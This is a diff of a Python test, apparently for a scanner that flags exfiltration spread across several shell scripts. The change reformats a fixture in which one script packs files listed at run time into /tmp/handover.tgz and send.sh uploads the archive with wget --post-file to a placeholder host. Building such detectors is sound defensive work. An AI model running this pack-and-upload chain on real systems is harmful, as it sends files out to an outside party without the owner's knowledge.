@@ -40,11 +40,7 @@ def test_a_list_with_a_line_known_at_run_time_across_three_steps(tmp_path: Path)
             "} > /tmp/handover.list\n"
         ),
         "tools/pack.sh": "#!/bin/bash\ntar -czf /tmp/handover.tgz --files-from /tmp/handover.list\n",
-        "tools/send.sh": (
-            "#!/bin/bash\n"
-            ". ./defaults.env\n"
-            'wget -q --post-file=/tmp/handover.tgz "$DESK_URL/upload"\n'
-        ),
+        "tools/send.sh": ('#!/bin/bash\n. ./defaults.env\nwget -q --post-file=/tmp/handover.tgz "$DESK_URL/upload"\n'),
         "defaults.env": "DESK_URL=https://desk.repro-intake.invalid\n",
     }
     errors = scan_errors(tmp_path, files)
